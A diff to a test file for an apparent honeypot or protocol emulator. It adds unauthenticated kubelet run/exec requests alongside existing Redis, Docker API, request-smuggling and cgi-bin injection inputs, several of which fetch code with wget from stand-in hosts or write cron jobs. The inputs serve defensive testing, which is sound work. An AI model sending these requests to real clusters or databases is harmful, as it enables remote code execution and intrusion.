@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 from eudaemon.protocols import ROOMS, load
 from eudaemon.protocols._base import Ended, HalfClosed
 from eudaemon.protocols._front import Front
+from eudaemon.protocols.kubelet.node import node_of
 from eudaemon.testing.script import Table, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
@@ -22,6 +23,8 @@ from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
 HELD_BYTES_MAX = 512 * 1024
+POD = node_of(HOST).pods[0]
+PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
@@ -43,9 +46,17 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
         b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
     ),
+    "kubelet": (
+        b"GET /pods HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST /run/%s HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\n" % PLACE, b"cmd=id+-un",
+        b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
+        b"\x82\x8a\0\0\0\0\0", b"wget a/b\r",
+    ),
     "redis": (
         b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 46\r\n\r\n", b'{"Image":"alpine","Cmd":["wget","http://a/b"]}',
     b"POST /images/create?fromImage=alpine HTTP/1.1\r\nHost: a\r\n\r\n", b"POST /build HTTP/1.1\r\nHost: a\r\n\r\n",
+    b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE, b"\x82\x85\0\0\0\0\0id\r\n",
+    b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
@@ -73,7 +84,7 @@ bounded = settings(max_examples=60, deadline=None, suppress_health_check=[Health
 
 
 def talk(name: str, *, transport: str = "tcp", bytes_max: int = HELD_BYTES_MAX) -> Table:
-    given = visit(host=HOST, transport=transport, purse=Purse(bytes_max))
+    given = visit(host=HOST, transport=transport, purse=Purse(bytes_max), tls=name == "kubelet")
     if name == FRONT:
         return Table(Front(given, (load("telnet"), load("http")), load("catchall"))).open()
     return Table(load(name)(given)).open()
